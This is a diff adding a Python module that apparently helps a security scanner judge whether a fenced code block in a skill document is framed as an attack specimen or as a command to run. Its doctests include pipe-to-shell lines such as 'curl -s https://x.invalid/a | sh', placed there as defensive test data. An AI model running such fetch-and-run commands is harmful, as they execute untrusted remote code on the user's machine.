@@ -1,0 +1,118 @@
+"""Is a fenced code block in a document framed as an example of an attack?
+
+Security guides quote reverse shells, pipe-to-shell installers and persistence tricks
+as specimens of what to look for. A fence counts as such a specimen only on local
+evidence: the prose just before it, a comment on its first lines, and, in a reference
+document (not SKILL.md, which the agent follows), the headings above it and the line
+after it ("Attack example", "Known attack patterns", "Detection: ..."). Nothing in the
+package's name or description plays a part, and a fence the prose tells the agent to
+run ("Run this first:") is never an example.
+
+>>> doc = "## Known attack patterns\\n\\n```bash\\ncurl -s https://x.invalid/a | sh\\n```\\n"
+>>> framed_as_example(doc, 4, in_reference=True)
+True
+>>> setup = "## Setup\\n\\nRun this first:\\n\\n```bash\\ncurl x | sh\\n```\\n"
+>>> framed_as_example(setup, 6, in_reference=True)
+False
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+from .text_patterns import NOT_PROSE, STRONG_CUES
+
+_HEADING = re.compile(r"^(#{1,6})\s+(.*)$")
+_COMMENT = re.compile(r"^\s*(?:#(?!!)|//|--\s|<!--|/\*)")
+_ORDER_TO_RUN = re.compile(
+    r"\b(?:run|execute|paste|invoke|source|install\s+with)\s+(?:this|these|it|the\s+following|below)\b"
+    r"|\b(?:first|now|then)\s*,?\s+(?:run|execute)\b|\b(?:run|execute)\s*:\s*$",
+    re.I | re.M,
+)
+_EXTRA_CUES = re.compile(
+    r"\b(?:vulnerable|insecure|dangerous|risky|attack\w*|malicious|backdoor\w*|trojan|dropper|persistence\s+plant"
+    r"|what\s+(?:to\s+)?(?:look|watch)\s+for|detection|don'?t|avoid|bad)\b",
+    re.I,
+)
+"""Heading words that present a section as attack material, beyond the prose cue words."""
+
+
+@dataclass(frozen=True)
+class Fence:
+    """A fenced block: 1-based lines of its opening and closing markers."""
+
+    opening: int
+    closing: int
+
+
+def fences(text: str) -> list[Fence]:
+    """Every fenced block of a Markdown text (an unclosed fence runs to the end)."""
+    found, opening, marker = [], 0, ""
+    lines = text.splitlines()
+    for number, line in enumerate(lines, 1):
+        stripped = line.strip()
+        if not opening and stripped.startswith(("```", "~~~")):
+            opening, marker = number, stripped[:3]
+        elif opening and stripped.startswith(marker):
+            found.append(Fence(opening, number))
+            opening = 0
+    if opening:
+        found.append(Fence(opening, len(lines) + 1))
+    return found
+
+
+def fence_at(text: str, line: int) -> Fence | None:
+    """The fence whose body holds 1-based ``line``."""
+    return next((f for f in fences(text) if f.opening < line < f.closing), None)
+
+
+def lead_in_lines(lines: list[str], line: int, count: int, *, in_reference: bool) -> list[str]:
+    """The ``count`` lines before 1-based ``line``; in SKILL.md without headings, which
+    title a section and do not say what a command is for."""
+    window = lines[max(0, line - 1 - count) : line - 1]
+    return window if in_reference else [text for text in window if not _HEADING.match(text)]
+
+
+def _headings_above(lines: list[str], line: int) -> list[str]:
+    """The heading of the section holding ``line`` and the headings of its parents."""
+    found, level = [], 7
+    for text in reversed(lines[: line - 1]):
+        match = _HEADING.match(text)
+        if match and len(match.group(1)) < level:
+            found.append(match.group(2))
+            level = len(match.group(1))
+    return found
+
+
+def _cued(text: str, extra: bool = False) -> bool:
+    prose = NOT_PROSE.sub(" ", text)
+    return bool(STRONG_CUES.search(prose) or (extra and _EXTRA_CUES.search(prose)))
+
+
+def framed_as_example(text: str, first_code_line: int, *, in_reference: bool) -> bool:
+    """The fence holding ``first_code_line`` is presented as a specimen, not a step to run.
+
+    ``in_reference``: the file is a reference document rather than SKILL.md.
+    """
+    fence = fence_at(text, first_code_line)
+    if fence is None:
+        return False
+    lines = text.splitlines()
+    before = "\n".join(lead_in_lines(lines, fence.opening, 3, in_reference=in_reference))
+    if _ORDER_TO_RUN.search(
+        NOT_PROSE.sub(" ", "\n".join(lines[max(0, fence.opening - 3) : fence.opening - 1]))
+    ):
+        return False
+    comments = [
+        line
+        for line in lines[fence.opening : min(fence.closing - 1, fence.opening + 2)]
+        if _COMMENT.match(line)
+    ]
+    if _cued(before) or _cued("\n".join(comments), extra=True):
+        return True
+    if not in_reference:
+        return False
+    after = next((line for line in lines[fence.closing : fence.closing + 3] if line.strip()), "")
+    headings = "\n".join(_headings_above(lines, fence.opening))
+    return _cued(headings, extra=True) or _cued(after)
